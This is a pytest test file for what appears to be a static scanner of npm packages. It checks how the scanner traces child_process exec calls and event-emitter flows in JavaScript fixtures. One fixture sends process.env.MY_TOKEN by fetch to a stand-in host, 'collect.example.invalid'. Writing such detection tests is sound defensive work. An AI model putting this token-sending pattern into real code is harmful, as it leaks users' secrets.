"""What nobody called is told from what nobody was seen to call."""

import pytest
from engine_flows import flows

from ostiary.core.coverage import Reach
from ostiary.program.engine.ledger import Ledger
from ostiary.program.flow import Act

FILLER = "function f%d(a) { return a + %d; }\n"
LATE = "const {{ exec: q }} = require('child_process');\n{}function later() {{ q('late'); }}\n{}"


def test_a_function_that_nobody_called_is_loose() -> None:
    (found,) = flows(LATE.format("", ""), Act.RUN, "npm")
    assert found.loose


@pytest.mark.parametrize(
    "work", ["for (let i = 0; i < 9000000; i++) { a.push(i * 3 + 1); }", "while (i < 1e9) i += 1;"]
)
def test_behind_the_end_of_the_work_nothing_is(work: str) -> None:
    start = f"const a = [], k = String.fromCharCode(97); let i = 0; {work}\n"
    told = [one.loose for one in flows(LATE.format(start, "later();\n"), Act.RUN, "npm")]
    assert told
    assert not any(told)


@pytest.mark.parametrize("size", [200_000, 600_000])
def test_another_name_is_followed_in_a_large_script(size: int) -> None:
    filler = "".join(FILLER % (n, n) for n in range(size // 35))
    text = LATE.format(filler, f"{filler}later();\n")
    assert {one.text for one in flows(text, Act.RUN, "npm")} == {"late"}


def test_the_end_of_a_function_cut_in_two_ends_no_script() -> None:
    torn = "class A {\n" + "".join(
        f"  m{n}(a) {{ if (!a) throw new Error('{n}'); fetch(a); return this; }}\n"
        for n in range(20_000)
    )
    text = f"{torn}}}\nconst q = require('child_process').exec;\nq('late');\n"
    assert {one.text for one in flows(text, Act.RUN, "npm")} == {"late"}


def note(ledger: Ledger, reach: Reach, *, loose: bool) -> None:
    ledger.note(
        Act.RUN, "exec", "a.js", 1, inside="", marks={}, text="x", target="", layers=(),
        reach=reach, deep=False, loose=loose,
    )  # fmt: skip


@pytest.mark.parametrize("turned", [False, True])
def test_looseness_belongs_to_the_moment(turned: bool) -> None:
    several = [(Reach.CALL, False), (Reach.IMPORT, True)]
    ledger = Ledger()
    for reach, loose in reversed(several) if turned else several:
        note(ledger, reach, loose=loose)
    (entry,) = ledger.acts()
    assert (entry.reach, entry.loose) == (Reach.IMPORT, True)


@pytest.mark.parametrize(
    ("call", "reach"),
    [
        ("router.on('POST', '/a', f)", Reach.CALL),
        ("router.get('/a/:b', guard, f)", Reach.CALL),
        ("router.use(`/a/${router.name}`, f)", Reach.CALL),
        ("router.on('/a', f)", Reach.IMPORT),
        ("router.on('ready', f)", Reach.IMPORT),
        ("router.get('a', f)", Reach.IMPORT),
        ("router.get(f)", Reach.IMPORT),
        ("router.each('/a', f)", Reach.IMPORT),
        ("require('fs').readFile('/a', f)", Reach.IMPORT),
        ("require('https').get('/a', f)", Reach.IMPORT),
        ("process.on('exit', f)", Reach.IMPORT),
        ("setTimeout(f, 10)", Reach.IMPORT),
        ("new Promise(f)", Reach.IMPORT),
        ("router.load().then(f)", Reach.IMPORT),
    ],
)
def test_only_a_route_waits_for_a_request(call: str, reach: Reach) -> None:
    text = (
        "const { exec } = require('child_process');\nconst router = require('some-router')();\n"
        f"const guard = (a, b, c) => c();\nconst f = (a, b) => exec('x');\n{call};\n"
    )
    (found,) = flows(text, Act.RUN, "npm")
    assert (found.reach, found.loose) == (reach, False)


SEND = "(v) => fetch('https://collect.example.invalid/' + v)"
EMIT = "bus.emit('a', process.env.MY_TOKEN)"
BUS = "const E = require('events'); const bus = new E(), other = new E();\n"


@pytest.mark.parametrize(
    ("text", "sent"),
    [
        (f"bus.on('a', {SEND}); bus.emit('a', process.env.MY_TOKEN);", True),
        (f"bus.once('a', {SEND}).on('b', {SEND}); bus.emit('b', process.env.MY_TOKEN);", True),
        (f"bus.on('a', {SEND}); bus.emit(process.argv[2], process.env.MY_TOKEN);", True),
        (f"exports.a = () => {EMIT}; exports.b = () => bus.on('a', {SEND});", True),
        (f"bus.on('a', {SEND}); other.emit('a', process.env.MY_TOKEN);", False),
        (f"bus.on('a', {SEND}); bus.emit('b', process.env.MY_TOKEN);", False),
        (f"bus.on('a', {SEND}); bus.emit('a', 1);", False),
    ],
)  # fmt: skip
def test_events_carry_what_is_emitted(text: str, sent: bool) -> None:
    found = flows(BUS + text, Act.SEND, "npm")
    assert found
    assert any(one.has("token") for one in found) == sent
